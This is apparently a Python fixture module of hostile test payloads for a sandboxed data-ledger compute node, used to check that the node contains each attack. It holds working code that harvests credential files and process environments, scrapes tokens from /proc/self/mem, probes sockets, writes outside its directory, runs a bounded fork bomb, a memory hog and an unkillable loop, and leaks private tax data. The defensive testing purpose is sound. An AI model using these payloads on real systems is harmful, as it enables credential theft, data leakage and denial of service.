"""The hostile products of ``test_hostile.py``: the registered code of each attack.

Each source is exactly one top-level function taking the provider's table (the form
``compute_nodes.datasite.parameters`` accepts); what an attack aims at (paths, ports) is
written into its body by :func:`fill`, as a product's author who knew the deployment would.
The probes catch their own errors and report what they saw as result rows (``uscc`` is the
product's key column), so a delivered result shows what the code could reach.
"""

from __future__ import annotations

import re
from typing import Any


def fill(source: str, **constants: Any) -> str:
    """``source`` with each ``__NAME__`` placeholder replaced by ``repr`` of its value."""
    for name, value in constants.items():
        source = source.replace(f"__{name}__", repr(value))
    assert not re.search(r"__[A-Z]+__", source), source
    return source


# A normal product: the node must still deliver it right after each attack.
NORMAL = r'''def points(data):
    table = data.sort_values("uscc")
    return [{"uscc": str(u), "points": int(t // 10000)}
            for u, t in zip(table["uscc"], table["tax_paid_yuan"])]
'''

# Read the credential files: enrollment files found by walking the deployment and the
# usual roots, every file of the node's directory, its datasite and the server's data
# directory, and the environment of every process it can see.
LOOT = r'''def loot(data):
    import os, time
    rows = []
    def note(what, got):
        text = "".join(c if c.isprintable() else "." for c in got)
        rows.append({"uscc": "loot-%d" % len(rows), "what": what, "got": text[:2000]})
    def read(path):
        try:
            with open(path, "rb") as handle:
                note(path, "READ " + handle.read(2000).decode("latin-1"))
        except Exception as exc:
            note(path, type(exc).__name__)
    deadline = time.monotonic() + 4
    for root in __ROOTS__:
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if not d.startswith(".") and d != "proc"]
            if folder.endswith("/providers"):
                for name in files:
                    if name.endswith(".json"):
                        read(os.path.join(folder, name))
            if time.monotonic() > deadline:
                break
    for path in __FILES__:
        read(path)
    for folder in __DIRS__:
        try:
            note(folder, "LISTED " + ",".join(sorted(os.listdir(folder))))
        except Exception as exc:
            note(folder, type(exc).__name__)
        for inner, _, files in os.walk(folder):
            for name in files[:50]:
                read(os.path.join(inner, name))
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in ["1", "self", str(os.getppid()), *pids]:
        read("/proc/%s/environ" % pid)
    note("environ", repr(dict(os.environ)))
    return rows[:400]
'''

# Read the node's token from memory: the objects of its own interpreter (an HTTP client
# would hold it in its headers), every readable page of its address space, its environment.
SNIFF = r'''def sniff(data):
    import gc, os, re
    token = re.compile(rb"(?:dl_[A-Za-z0-9_-]{20,}|Bearer [^\s\x00]{8,})")
    found, clients, objects = set(), set(), 0
    for obj in gc.get_objects():
        objects += 1
        kind = type(obj).__name__
        if "Client" in kind or "Header" in kind:
            clients.add(type(obj).__module__ + "." + kind)
        values = obj.values() if isinstance(obj, dict) else obj if isinstance(obj, list) else ()
        for value in list(values)[:1000]:
            if isinstance(value, str | bytes):
                raw = value.encode("utf-8", "replace") if isinstance(value, str) else value
                found.update(m.decode("latin-1") for m in token.findall(raw))
    scanned = 0
    try:
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
            for line in maps:
                span, perms = line.split()[:2]
                if not perms.startswith("r") or "[v" in line:
                    continue
                start, end = (int(x, 16) for x in span.split("-"))
                try:
                    mem.seek(start)
                    chunk = mem.read(min(end - start, 64 << 20))
                except (OSError, ValueError, OverflowError):
                    continue
                scanned += len(chunk)
                found.update(m.decode("latin-1") for m in token.findall(chunk))
    except Exception as exc:
        found.add("no /proc/self/mem: " + type(exc).__name__)
    for value in os.environ.values():
        found.update(m.decode("latin-1") for m in token.findall(value.encode()))
    rows = [{"uscc": "scanned", "objects": objects, "bytes": scanned,
             "clients": sorted(clients)[:50], "environ": sorted(os.environ)}]
    return rows + [{"uscc": "found-%d" % i, "value": v[:200]}
                   for i, v in enumerate(sorted(found)[:200])]
'''

# Open sockets: TCP to the ledger API and to other loopback ports, UDP to a loopback port
# (by address: a name would need the idna codec, which a product cannot count on).
SOCKETS = r'''def dial(data):
    import socket
    rows = []
    for family, kind, host, port in __TARGETS__:
        where = "%s %s:%d" % (kind, host, port)
        try:
            sock = socket.socket(getattr(socket, family), getattr(socket, kind))
        except Exception as exc:
            rows.append({"uscc": where, "outcome": "no socket: " + type(exc).__name__})
            continue
        try:
            sock.settimeout(2)
            if kind == "SOCK_DGRAM":
                sock.sendto(b"hostile datagram", (host, port))
                rows.append({"uscc": where, "outcome": "SENT"})
            else:
                sock.connect((host, port))
                sock.sendall(b"GET /participants/me HTTP/1.0\r\n\r\n")
                got = sock.recv(100).decode("latin-1")
                rows.append({"uscc": where, "outcome": "CONNECTED " + got})
        except Exception as exc:
            rows.append({"uscc": where, "outcome": type(exc).__name__})
        finally:
            sock.close()
    return rows
'''

# Connect to unix sockets of the host (a service's socket, world-connectable): no
# network is needed for these, only the filesystem.
UNIX = r'''def local(data):
    import socket
    rows = []
    for path in __PATHS__:
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
                sock.settimeout(2)
                sock.connect(path)
            rows.append({"uscc": path, "outcome": "CONNECTED"})
        except Exception as exc:
            rows.append({"uscc": path, "outcome": type(exc).__name__})
    return rows
'''

# Write outside its directory: new files in the repository, /root, the deployment, the
# node's directory, the shared temporary directories; and append to a file of the host.
WRITE = r'''def scribble(data):
    rows = []
    for path in __CREATE__:
        try:
            with open(path, "x") as handle:
                handle.write("written by a hostile product")
            rows.append({"uscc": path, "outcome": "WROTE"})
        except Exception as exc:
            rows.append({"uscc": path, "outcome": type(exc).__name__})
    for path in __APPEND__:
        try:
            with open(path, "a") as handle:
                handle.write("appended by a hostile product")
            rows.append({"uscc": path, "outcome": "APPENDED"})
        except Exception as exc:
            rows.append({"uscc": path, "outcome": type(exc).__name__})
    return rows
'''

# A fork bomb, bounded so that a sandbox without a process limit does not take the
# shared machine down: each child becomes a `sleep` whose argument marks it.
BOMB = r'''def bomb(data):
    import os
    children = 0
    while children < 1000:
        if os.fork() == 0:
            try:
                os.execv("/bin/sleep", ["sleep", __MARK__])
            finally:
                os._exit(0)
        children += 1
    return [{"uscc": "forked", "points": children}]
'''

# Allocate 10 GiB, touching every page.
HOG = r'''def hog(data):
    chunks = []
    for _ in range(40):
        chunks.append(bytearray(256 * 1024 * 1024))
    return [{"uscc": "allocated", "points": len(chunks)}]
'''

# Loop forever, deaf to the polite signals.
SPIN = r'''def spin(data):
    import signal
    for name in ("SIGTERM", "SIGINT", "SIGXCPU", "SIGHUP", "SIGALRM"):
        signal.signal(getattr(signal, name), signal.SIG_IGN)
    while True:
        pass
'''

MISSING = r'''def missing(data):
    import dataledger_hostile_module_not_installed
    return [{"uscc": "imported", "points": 1}]
'''

# Print private values to stdout and stderr (Python's streams and the raw descriptors),
# log them, then raise with them.
SPILL = r'''def spill(data):
    import os, sys
    pairs = ["%s=%s" % (u, t) for u, t in zip(data["uscc"], data["tax_paid_yuan"])]
    print("PRINTED " + " ".join(pairs))
    print("PRINTED-ERR " + " ".join(pairs), file=sys.stderr)
    os.write(1, ("FD1 " + " ".join(pairs) + "\n").encode())
    os.write(2, ("FD2 " + " ".join(pairs) + "\n").encode())
    try:
        import logging
        logging.getLogger().error("LOGGED %s", " ".join(pairs))
        logging.getLogger("compute_nodes.executor").error("LOGGED %s", " ".join(pairs))
    except Exception:
        pass
    raise ValueError("RAISED " + " ".join(pairs))
'''

# Output a column the product's output_schema does not have: a private one ("power_kwh"),
# or one whose name spells a private value.
EXTRA_COLUMN = r'''def points(data):
    table = data.sort_values("uscc")
    return [{"uscc": str(u), "points": int(t // 10000), "power_kwh": int(k)}
            for u, t, k in zip(table["uscc"], table["tax_paid_yuan"], table["power_kwh"])]
'''
SPELLED_COLUMN = r'''def points(data):
    table = data.sort_values("uscc")
    return [{"uscc": str(u), "points": int(t // 10000), "t%d" % int(t): 1}
            for u, t in zip(table["uscc"], table["tax_paid_yuan"])]
'''

# Output a column its dataset marks sensitive.
SENSITIVE = r'''def taxes(data):
    table = data.sort_values("uscc")
    return [{"uscc": str(u), "tax_paid_yuan": int(t)}
            for u, t in zip(table["uscc"], table["tax_paid_yuan"])]
'''

# What columns the code is handed.
COLUMNS = r'''def columns(data):
    return [{"uscc": "columns", "seen": sorted(str(c) for c in data.columns)}]
'''
